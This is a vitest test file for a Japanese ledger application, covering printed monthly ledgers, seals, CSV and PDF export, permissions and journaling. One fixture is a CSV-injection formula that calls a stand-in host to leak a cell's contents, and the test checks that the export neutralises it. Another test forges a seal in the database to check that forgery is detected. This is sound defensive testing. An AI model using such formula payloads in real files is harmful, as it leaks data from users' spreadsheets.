import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { chromiumPdfRenderer } from '../../electron/host/chromium-pdf';
import type { JobInfo } from '../../shared/domain/jobs';
import { parseCsv, sheetCsv } from '../../shared/print/csv';
import { sheetHtml } from '../../shared/print/html';
import { Caller, SETUP, tempDir } from '../helpers/temp-daicho';
import { jst, PASSWORDS, serverRoomFixture } from './server-room-fixture';

// Issue 12 (SPEC §6), first part: a ledger × site × month as paper holds it, through the real
// dispatcher — every record of the month (voided ones struck, corrections marked), the stamp boxes
// filled from the month's seals or 未確認, the CSV that Excel opens, and every print journaled.

describe('printed ledgers and CSV (issue 12)', () => {
  it('a month of the server-room book: its records, the seal in the 責任者 box, a CSV that round-trips, journaled', async () => {
    const f = await serverRoomFixture(jst('2026-10-20', '09:00'));
    const { c, d, sm, clerk, hq, osaka, yamada, sasaki } = f;
    const tricky = '配線の変更, "ラックA" の確認\n2行目';
    const a = await clerk.ok('serverRoom.record', { siteId: hq.id, personId: yamada.id, enteredAt: jst('2026-10-20', '08:30'), exitedAt: jst('2026-10-20', '08:50'), purpose: 'maintenance', notes: tricky });
    // Typed to run as a formula when the CSV is opened in a spreadsheet (CSV injection): kept as text.
    const formula = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")';
    const b = await clerk.ok('serverRoom.record', { siteId: hq.id, personId: sasaki.id, enteredAt: jst('2026-10-20', '08:40'), exitedAt: jst('2026-10-20', '08:55'), purpose: 'maintenance', notes: formula });
    await clerk.ok('serverRoom.void', { id: b.id, reason: '二重登録' });
    await clerk.ok('serverRoom.amend', { id: a.id, changes: { purpose: 'equipment' }, reason: '目的の選択誤り' });
    c.set(jst('2026-11-05', '10:00'));
    await sm.ok('auth.unlock', { password: SETUP.safetyManager.password });
    const unit = { ledger: 'serverRoom', siteId: hq.id, month: '2026-10' };
    await sm.ok('review.sign', { ...unit, password: SETUP.safetyManager.password, meaning: 'approve', shownHead: (await sm.ok('review.get', unit)).shownHead });

    // As the print view shows it (a preview is not journaled), and for the CSV.
    const sheet = await sm.ok('print.sheet', { ...unit, format: 'preview' });
    expect(sheet).toMatchObject({ title: 'サーバルーム入退記録簿', company: SETUP.companyName, site: hq.name, period: '令和8年10月' });
    // For the CSV, 西暦 throughout: its words as well as its cells (a user probe found 令和 and R8.12.07 in it).
    const forCsv = await sm.ok('print.sheet', { ...unit, format: 'csv' });
    expect(forCsv.period).toBe('2026年10月');
    expect(sheetCsv(forCsv)).not.toMatch(/令和|R\d+\./);
    expect(sheet.rows).toHaveLength(2);
    expect(sheet.rows.find((r) => r.void)!.cells).toContain('二重登録');
    expect(sheet.rows.find((r) => !r.void)).toMatchObject({ amended: true, sealedChange: false });
    expect(sheet.stamps.map((s) => [s.label, s.seal?.familyName ?? null])).toEqual([['担当', null], ['確認', null], ['責任者', '鈴木']]);
    // Complete under her 承認 alone: the 確認 box says it is not needed, not an empty box read as unsigned (a user probe).
    expect(sheet.stamps.map((s) => s.notNeeded ?? false)).toEqual([false, true, false]);
    expect(sheetHtml(sheet)).toContain('<span class="seal-none">不要</span>');
    expect(sheet.digest).toMatch(/^[0-9a-f]{16}$/);
    expect(sheet.printedBy).toBe(SETUP.safetyManager.displayName);

    // Each signature in full on paper: who, in what capacity, what it means, when to the minute, and its key (a walk-through: only a family name and a date were there).
    expect(sheet.keys).toEqual([expect.stringMatching(/^鈴木 花子（安全管理責任者）承認 令和8年11月\d+日 \d\d:\d\d（鍵の識別値 [0-9a-f]{16}）$/)]);
    expect(sheetHtml(sheet)).toContain('署名：鈴木 花子（安全管理責任者）承認 令和8年11月');

    // A designated clerk confirms too (確認); then an administrator resets the clerk's password: the
    // key behind that seal is revoked, and the paper says so beside the seals it affects.
    await sm.ok('auth.elevate', { password: SETUP.safetyManager.password });
    await sm.ok('designations.add', { accountId: f.accountId('tanaka.clerk'), ledgers: ['serverRoom'], siteIds: [hq.id], validFrom: '2026-11-01', validTo: '2026-11-30' });
    await clerk.ok('auth.unlock', { password: PASSWORDS.clerk });
    await clerk.ok('review.sign', { ...unit, password: PASSWORDS.clerk, meaning: 'confirm', shownHead: (await clerk.ok('review.get', unit)).shownHead });
    await f.admin.ok('auth.unlock', { password: SETUP.sysadmin.password });
    await f.admin.ok('auth.elevate', { password: SETUP.sysadmin.password });
    // A designated reviewer's reset needs a safety manager's approval (whoever set it could sign as them).
    await f.admin.ok('accounts.resetPassword', {
      id: f.accountId('tanaka.clerk'), temporaryPassword: 'Kari-no-pass-9902', reason: 'パスワード失念',
      approval: { approverLoginId: SETUP.safetyManager.loginId, approverPassword: SETUP.safetyManager.password },
    });
    const after = await sm.ok('print.sheet', { ...unit, format: 'print' });
    expect(after.stamps.map((s) => s.seal?.familyName ?? null)).toEqual([null, '田中', '鈴木']);
    expect(after.keys).toContainEqual(expect.stringMatching(/^田中 一郎（指名された点検者）確認 令和8年11月5日 \d\d:\d\d（鍵の識別値 [0-9a-f]{16}） — 令和8年11月5日に失効（管理者によるパスワード再設定）$/));
    expect(sheetHtml(after)).toContain('管理者によるパスワード再設定');
    // The stamp boxes are a setting: four boxes, the seals still in the last two.
    expect(await f.admin.call('settings.update', { stampLabels: '担当' })).toMatchObject({ ok: false, error: { field: 'stampLabels', messageKey: 'settings.errors.stamp_labels' } });
    expect((await f.admin.ok('settings.update', { stampLabels: '起票, 担当、確認、所長' })).stampLabels).toBe('起票、担当、確認、所長');
    expect((await sm.ok('print.sheet', { ...unit, format: 'print' })).stamps.map((s) => [s.label, s.seal?.familyName ?? null])).toEqual([['起票', null], ['担当', null], ['確認', '田中'], ['所長', '鈴木']]);
    // Each seal says what was signed, whatever its box is called (an insider probe: relabelled boxes made
    // a 確認 read as 承認 on every month already sealed), with the year of its date.
    await f.admin.ok('settings.update', { stampLabels: '担当、承認、確認' });
    const relabelled = await sm.ok('print.sheet', { ...unit, format: 'print' });
    expect(relabelled.stamps.map((s) => [s.label, s.seal?.familyName ?? null, s.seal?.meaning ?? null, s.seal?.date ?? null]))
      .toEqual([['担当', null, null, null], ['承認', '田中', '確認', 'R8.11.05'], ['確認', '鈴木', '承認', 'R8.11.05']]);
    expect(sheetHtml(relabelled)).toContain('<span class="seal-meaning">確認</span><span class="seal-date">R8.11.05</span><span class="seal-name">田中</span>');
    expect((await sm.ok('print.sheet', { ...unit, format: 'print', calendar: 'seireki' })).stamps[2].seal!.date).toBe('2026.11.05');
    // A box with no name once trimmed, or the same name twice: refused, nothing saved.
    for (const stampLabels of ['担当、 、責任者', '担当、\u3000、責任者', '担当、担当'])
      expect(await f.admin.call('settings.update', { stampLabels })).toMatchObject({ ok: false, error: { field: 'stampLabels', messageKey: 'settings.errors.stamp_labels_distinct' } });
    expect((await sm.ok('print.sheet', { ...unit, format: 'print' })).stamps.map((s) => s.label)).toEqual(['担当', '承認', '確認']);

    // A seal copied outside the app (with the database key) onto a month nobody signed: its signature
    // covers its own month, so it seals nothing — paper says 署名不一致 and 未確認, the review keeps the month open.
    const other = { ...unit, siteId: osaka.id };
    const real = d.store.db.prepare("SELECT * FROM seals WHERE site_id = ? AND meaning = 'approve'").get(hq.id) as Record<string, unknown>;
    const copied = { ...real, id: 'forged-seal', site_id: osaka.id };
    d.store.db.prepare(`INSERT INTO seals (${Object.keys(copied).join(', ')}) VALUES (${Object.keys(copied).map(() => '?').join(', ')})`).run(...Object.values(copied));
    const forged = await sm.ok('print.sheet', { ...other, format: 'print' });
    expect(forged.digest).toBeNull();
    expect(forged.keys).toEqual([]);
    expect(forged.stamps[2]).toEqual({ label: '確認', seal: null, broken: true });
    expect(sheetHtml(forged)).toContain('<span class="seal-broken">署名不一致</span>');
    expect(sheetHtml(forged)).toContain('未確認');
    expect((await sm.ok('review.get', other)).unit).toMatchObject({ state: 'open', seals: [expect.objectContaining({ verified: false })] });
    expect((await sm.ok('review.list', { due: true })).map((u) => [u.ledger, u.siteId, u.month])).toContainEqual(['serverRoom', osaka.id, '2026-10']);
    d.store.db.prepare("DELETE FROM seals WHERE id = 'forged-seal'").run();

    // CSV: a byte-order mark, the header, and a field with a comma, a quote and a line break round-trip.
    const csv = sheetCsv(sheet);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parseCsv(csv);
    expect(rows[0].slice(0, 3)).toEqual(['入室日時', '退室日時', '入室者']);
    // The header and two records, then after an empty line the month's sign-off as on paper (a user probe: an
    // auditor given the CSV alone could not tell whether the month was approved): the seal in full and its number.
    const data = rows.slice(0, rows.findIndex((r) => r.length === 1 && r[0] === ''));
    expect(data).toHaveLength(3);
    expect(data.map((r) => r.length)).toEqual([rows[0].length, rows[0].length, rows[0].length]);
    expect(rows.slice(data.length)).toEqual([[''], [sheet.words.keys], ...sheet.keys.map((k) => [k]), [`${sheet.words.digest} ${sheet.digest}`]]);
    expect(sheet.keys).toEqual([expect.stringContaining('承認')]);
    expect(rows.some((r) => r.includes(tricky))).toBe(true);
    // Its times with their full date, as Excel reads a date of the right year; paper keeps 10/20 08:30 under the month.
    expect(rows.find((r) => r.includes(tricky))!.slice(0, 2)).toEqual(['2026/10/20 08:30', '2026/10/20 08:50']);
    // (On one line, or date over time where the column is narrow: the book's time columns are, to give its text columns the page.)
    expect(sheetHtml(sheet)).toMatch(/<td><span class="nb">10\/20<\/span>(?: |<br>)08:30<\/td>/);
    expect(rows.some((r) => r.includes(`'${formula}`))).toBe(true);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // Each record's anomalies, as in paper's state column (a walk-through: the CSV had none of them).
    expect(rows[0].at(-1)).toBe(sheet.words.state);
    expect(data.slice(1).map((r) => r.at(-1))).toEqual(sheet.rows.map((r) => (r.anomalies ?? []).join('\n')));

    // The print layout: title, period, the seal, voided rows struck; and 未確認 for a month not signed.
    const html = sheetHtml(sheet);
    expect(html).toContain('<h1 class="sheet-title">サーバルーム入退記録簿</h1>');
    expect(html).toContain('<tr class="void">');
    expect(html).toContain('<span class="seal-name">鈴木</span>');
    const unsigned = await sm.ok('print.sheet', { ...unit, siteId: osaka.id, format: 'print', calendar: 'seireki' });
    expect(unsigned).toMatchObject({ digest: null, period: '2026年10月', rows: [] });
    expect(sheetHtml(unsigned)).toContain('未確認');

    // Every print and export is journaled: who, what, when.
    const printed = d.store.db.prepare("SELECT action, actor, after FROM journal WHERE action LIKE 'print.%' ORDER BY seq").all() as { action: string; actor: string; after: string }[];
    expect(printed.map((p) => [p.action, JSON.parse(p.after).siteId])).toEqual([['print.csv', hq.id], ...Array(5).fill(['print.print', hq.id]), ['print.print', osaka.id], ['print.print', osaka.id]]);
    expect(printed[0].actor).toBe(f.accountId(SETUP.safetyManager.loginId));
    // Staff print nothing; the clerk prints only the ledgers the clerk reads (not the access-log checks).
    expect(await f.staff.call('print.sheet', { ...unit, format: 'print' })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    const clerk2 = new Caller(d);
    await clerk2.ok('auth.signIn', { loginId: 'tanaka.clerk', password: 'Kari-no-pass-9902' });
    await clerk2.ok('auth.changePassword', { currentPassword: 'Kari-no-pass-9902', newPassword: 'Atarashii-kagi-clerk-4417' });
    expect(await clerk2.call('print.sheet', { ...unit, ledger: 'accessLog', format: 'print' })).toMatchObject({ ok: false, error: { code: 'forbidden', field: 'ledger' } });
    expect((await clerk2.ok('print.sheet', { ...unit, ledger: 'cabinetLog', format: 'print' })).title).toBe('キャビネット開施錠記録簿');
    d.close();
  });

  it('the server-room book on paper names the employee who went in with each visitor, or says none did (Art. 8(2))', async () => {
    const { d, clerk, hq, yamada } = await serverRoomFixture();
    const visitors = [{ name: '高橋 誠', company: 'ネクスト', escortPersonId: yamada.id }, { name: '伊藤 裕子', company: '保守社', escortPersonId: null }];
    await clerk.ok('serverRoom.record', { siteId: hq.id, personId: yamada.id, enteredAt: jst('2026-11-20', '09:00'), exitedAt: jst('2026-11-20', '09:30'), purpose: 'maintenance', companions: { employees: [], visitors } });
    const sheet = await clerk.ok('print.sheet', { ledger: 'serverRoom', siteId: hq.id, month: '2026-11', format: 'print' });
    const cell = String(sheet.rows[0].cells[sheet.columns.findIndex((c) => c.label === '同行者')]);
    expect(cell).toBe('高橋 誠（ネクスト） 同行：山田 太郎、伊藤 裕子（保守社） 同行する社員なし');
    // In the CSV too, the anomaly in the state column, as on paper (a walk-through: the CSV had none).
    expect(sheet.rows[0].anomalies?.length).toBeGreaterThan(0);
    const csv = parseCsv(sheetCsv(await clerk.ok('print.sheet', { ledger: 'serverRoom', siteId: hq.id, month: '2026-11', format: 'csv' })));
    expect([csv[0].at(-1), csv[1].at(-1)]).toEqual(['状態・異常', sheet.rows[0].anomalies!.join('\n')]);
    d.close();
  });

  it('the checkout record on paper says what the rule asks a record to say, and each record’s anomalies (a walk-through)', async () => {
    const { d, clerk, hq, yamada, sasaki } = await serverRoomFixture();
    const sd = await clerk.ok('assets.add', { assetTag: 'SD-001', kind: 'sd_card', model: 'SanDisk', serial: null, siteId: hq.id, storagePlace: '総務部', encrypted: false, notes: null });
    const out = await clerk.ok('checkouts.add', { assetId: sd.id, borrowerId: yamada.id, purpose: '顧客先での説明', destination: '株式会社サンプル', checkedOutAt: jst('2026-11-20', '09:00'), dueAt: jst('2026-11-21', '18:00'), notes: null });
    await clerk.ok('checkouts.reportLoss', { id: out.id, lostAt: jst('2026-11-21', '10:00'), reason: '移動中に紛失' });
    // Returned: what was done with its data, and its notes (SPEC §4.3's return; a walk-through found neither on paper).
    const pc = await clerk.ok('assets.add', { assetTag: 'SD-014', kind: 'sd_card', model: 'SanDisk Extreme', serial: null, siteId: hq.id, storagePlace: '総務部', encrypted: true, notes: null });
    const lent = await clerk.ok('checkouts.add', { assetId: pc.id, borrowerId: yamada.id, purpose: '展示会', destination: '東京ビッグサイト', checkedOutAt: jst('2026-11-22', '09:00'), dueAt: jst('2026-11-23', '18:00'), notes: '電源アダプタ付き' });
    await clerk.ok('checkouts.return', { id: lent.id, returnedAt: jst('2026-11-23', '17:00'), receivedBy: sasaki.id, condition: 'good', dataHandling: '不要データ消去済', notes: '付属品すべて返却' });
    const sheet = await clerk.ok('print.sheet', { ledger: 'checkouts', siteId: hq.id, month: '2026-11', format: 'print' });
    const labels = sheet.columns.map((c) => c.label);
    expect(labels).toEqual(expect.arrayContaining(['目的', '承認者', '受領者', 'データの扱い', '備考']));
    const row = sheet.rows[0].cells.map(String);
    expect(row[labels.indexOf('目的')]).toBe('顧客先での説明');
    const returned = sheet.rows[1].cells.map(String);
    expect([returned[labels.indexOf('データの扱い')], returned[labels.indexOf('備考')]]).toEqual(['不要データ消去済', expect.stringMatching(/電源アダプタ付き[\s\S]*付属品すべて返却/)]);
    // On A4 each heading stays whole on its line.
    const render = chromiumPdfRenderer();
    expect(render, 'Chromium is needed (DAICHO_CHROMIUM or /usr/bin/chromium)').not.toBeNull();
    const file = path.join(tempDir('daicho-checkouts-paper-'), 'checkouts.pdf');
    fs.writeFileSync(file, await render!(sheetHtml(sheet), new AbortController().signal));
    const lines = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' }).split('\n');
    for (const word of ['データの扱い', '持出日時', '返却予定', '受領者']) expect(lines.some((l) => l.includes(word)), `${word} on one line`).toBe(true);
    // Its anomalies go in the state column (状態・異常), in words.
    // The loss with when and what happened, under its mark (a probe: 紛失 alone, its report's words only in the history).
    expect(sheet.rows[0].anomalies).toContainEqual(expect.stringMatching(/^紛失\n紛失に気付いた日時：令和8年11月21日[^\n]*10:00\n紛失の状況：移動中に紛失$/));
    expect(sheetHtml(sheet)).toMatch(/<span class="mark mark-anomaly">紛失\n紛失に気付いた日時：/);
    d.close();
  });

  it('a PDF in the job runner: progress, then the file once to whoever asked; cancel; the bundle of what the caller reads; each journaled', async () => {
    const render = chromiumPdfRenderer();
    expect(render, 'Chromium is needed (DAICHO_CHROMIUM or /usr/bin/chromium)').not.toBeNull();
    const f = await serverRoomFixture(jst('2026-10-20', '09:00'), { renderPdf: render! });
    const { c, d, sm, clerk, hq, yamada } = f;
    await clerk.ok('serverRoom.record', { siteId: hq.id, personId: yamada.id, enteredAt: jst('2026-10-20', '08:30'), exitedAt: jst('2026-10-20', '08:50'), purpose: 'maintenance', notes: 'PDF出力の確認' });
    c.set(jst('2026-11-05', '10:00'));
    await sm.ok('auth.unlock', { password: SETUP.safetyManager.password });
    await clerk.ok('auth.unlock', { password: PASSWORDS.clerk });
    await f.admin.ok('auth.unlock', { password: SETUP.sysadmin.password });
    const unit = { ledger: 'serverRoom', siteId: hq.id, month: '2026-10' };
    const finished = async (who: typeof sm, id: string): Promise<JobInfo> => {
      for (let i = 0; i < 600; i++) {
        const j = await who.ok('print.exportStatus', { id });
        if (j.state !== 'running') return j;
        await new Promise((r) => setTimeout(r, 50));
      }
      throw new Error('the export did not end');
    };
    const printedRows = () => d.store.db.prepare("SELECT action, actor, entity, entity_id, after FROM journal WHERE action LIKE 'print.%' ORDER BY seq").all() as { action: string; actor: string; entity: string; entity_id: string; after: string }[];

    const started = await sm.ok('print.export', unit);
    expect(started).toMatchObject({ kind: 'export', state: 'running' });
    // One at a time per person; someone else's export is not theirs to see, cancel or take.
    expect(await sm.call('print.export', unit)).toMatchObject({ ok: false, error: { code: 'conflict', messageKey: 'jobs.errors.running' } });
    expect(await clerk.call('print.exportStatus', { id: started.id })).toMatchObject({ ok: false, error: { code: 'not_found' } });
    expect(await clerk.call('print.download', { id: started.id })).toMatchObject({ ok: false, error: { code: 'not_found' } });
    expect(await clerk.call('print.exportCancel', { id: started.id })).toMatchObject({ ok: false, error: { code: 'not_found' } });
    const done = await finished(sm, started.id);
    expect(done).toMatchObject({ state: 'succeeded', result: { records: 1, file: 'サーバルーム入退記録簿_本社_2026-10.pdf' } });
    // The administrator's job list is backup and verify: exports are not theirs.
    expect((await f.admin.ok('jobs.list', {})).some((j) => j.kind === 'export')).toBe(false);
    const file = await sm.ok('print.download', { id: started.id });
    expect(file).toMatchObject({ filename: done.result!.file, mime: 'application/pdf' });
    const pdf = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'daicho-pdf-')), 'out.pdf');
    fs.writeFileSync(pdf, Buffer.from(file.base64, 'base64'));
    expect(execFileSync('pdfinfo', [pdf], { encoding: 'utf8' })).toMatch(/Page size:\s+841\.\d+ x 59[45]\.\d+ pts \(A4\)/);
    const text = execFileSync('pdftotext', ['-layout', pdf, '-'], { encoding: 'utf8' });
    expect(text.replace(/\s/g, '')).toContain('サーバルーム入退記録簿');
    expect(text).toContain('PDF出力の確認');
    expect(text).toContain('令和8年10月');
    expect(text).toContain('未確認');
    // Taken once: its bytes are let go.
    expect(await sm.call('print.download', { id: started.id })).toMatchObject({ ok: false, error: { code: 'conflict', messageKey: 'jobs.errors.no_result' } });

    // Cancelled at once: nothing to take, the cancel journaled.
    const second = await sm.ok('print.export', { ...unit, ledger: 'cabinetLog' });
    expect((await sm.ok('print.exportCancel', { id: second.id })).cancelling).toBe(true);
    expect((await finished(sm, second.id)).state).toBe('cancelled');
    expect(await sm.call('print.download', { id: second.id })).toMatchObject({ ok: false, error: { code: 'conflict' } });

    // The clerk's bundle: every ledger the clerk reads, not the access-log checks.
    expect(await clerk.call('print.export', { ...unit, ledger: 'accessLog' })).toMatchObject({ ok: false, error: { code: 'forbidden', field: 'ledger' } });
    expect(await f.staff.call('print.export', unit)).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(await clerk.call('print.export', { ...unit, ledger: 'fireDrill' })).toMatchObject({ ok: false, error: { code: 'invalid_input', field: 'ledger' } });
    expect(await clerk.call('print.export', { siteId: hq.id, month: '2026-10' })).toMatchObject({ ok: false, error: { code: 'invalid_input', field: 'ledger' } });
    const bundle = await clerk.ok('print.export', { siteId: hq.id, month: '2026-10', bundle: true });
    expect((await finished(clerk, bundle.id)).result).toMatchObject({ file: '月次台帳一式_本社_2026-10.pdf', leftOut: ['アクセスログ確認記録'] });
    // Its cover says what it leaves out, so no one takes it for the whole set (a walk-through: it did not).
    const bundlePdf = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'daicho-pdf-')), 'bundle.pdf');
    fs.writeFileSync(bundlePdf, Buffer.from((await clerk.ok('print.download', { id: bundle.id })).base64, 'base64'));
    const cover = execFileSync('pdftotext', ['-f', '1', '-l', '1', bundlePdf, '-'], { encoding: 'utf8' }).replace(/\s/g, '');
    expect(cover).toContain('この一式に含まれていない台帳（作成者に閲覧の権限がないため）：アクセスログ確認記録');
    // In English, its file is named by its cover's English title (insider probe 11: it was 月次台帳一式_…); the site keeps its own name.
    const english = await clerk.ok('print.export', { siteId: hq.id, month: '2026-10', bundle: true, lang: 'en' });
    expect((await finished(clerk, english.id)).result).toMatchObject({ file: 'Monthly-ledgers_本社_2026-10.pdf', leftOut: ['Access-log check record'] });

    const rows = printedRows();
    expect(rows.filter((r) => r.action === 'print.pdf' && r.entity_id === started.id).map((r) => [r.actor, JSON.parse(r.after).ledger, JSON.parse(r.after).records])).toEqual([[f.accountId(SETUP.safetyManager.loginId), 'serverRoom', 1]]);
    expect(rows.filter((r) => r.action === 'print.export').map((r) => [r.entity_id, JSON.parse(r.after).outcome])).toEqual([[second.id, 'cancelled']]);
    const bundled = rows.filter((r) => r.entity_id === bundle.id).map((r) => JSON.parse(r.after).ledger);
    expect(bundled).toContain('serverRoom');
    expect(bundled).toContain('visitors');
    expect(bundled).not.toContain('accessLog');
    d.close();
  }, 120_000);

  it('a PDF Chromium cannot make fails with what the person can do, and Chromium’s first line only; the failure is journaled', async () => {
    // A Chromium that does not start (a broken install): Playwright's error runs over many lines of its log.
    const f = await serverRoomFixture(jst('2026-11-05', '10:00'), { renderPdf: chromiumPdfRenderer('/bin/false')! });
    const started = await f.sm.ok('print.export', { ledger: 'serverRoom', siteId: f.hq.id, month: '2026-10' });
    let job = started;
    for (let i = 0; i < 600 && job.state === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 50));
      job = await f.sm.ok('print.exportStatus', { id: started.id });
    }
    expect(job).toMatchObject({ state: 'failed', error: { messageKey: 'print.errors.pdf_failed', params: { detail: expect.stringMatching(/^[^\n]{1,200}$/) } } });
    const row = f.d.store.db.prepare("SELECT after FROM journal WHERE action = 'print.export' AND entity_id = ?").pluck().get(started.id) as string;
    expect(JSON.parse(row)).toMatchObject({ outcome: 'failed', error: 'print.errors.pdf_failed' });
    f.d.close();
  });

  it('without a way to make PDFs, an export is refused with its message and nothing is journaled', async () => {
    const f = await serverRoomFixture(jst('2026-11-05', '10:00'));
    const before = f.d.store.journalHead().seq;
    expect(await f.sm.call('print.export', { ledger: 'serverRoom', siteId: f.hq.id, month: '2026-10' })).toMatchObject({ ok: false, error: { code: 'conflict', messageKey: 'print.errors.no_pdf' } });
    expect(f.d.store.journalHead().seq).toBe(before);
    f.d.close();
  });
});
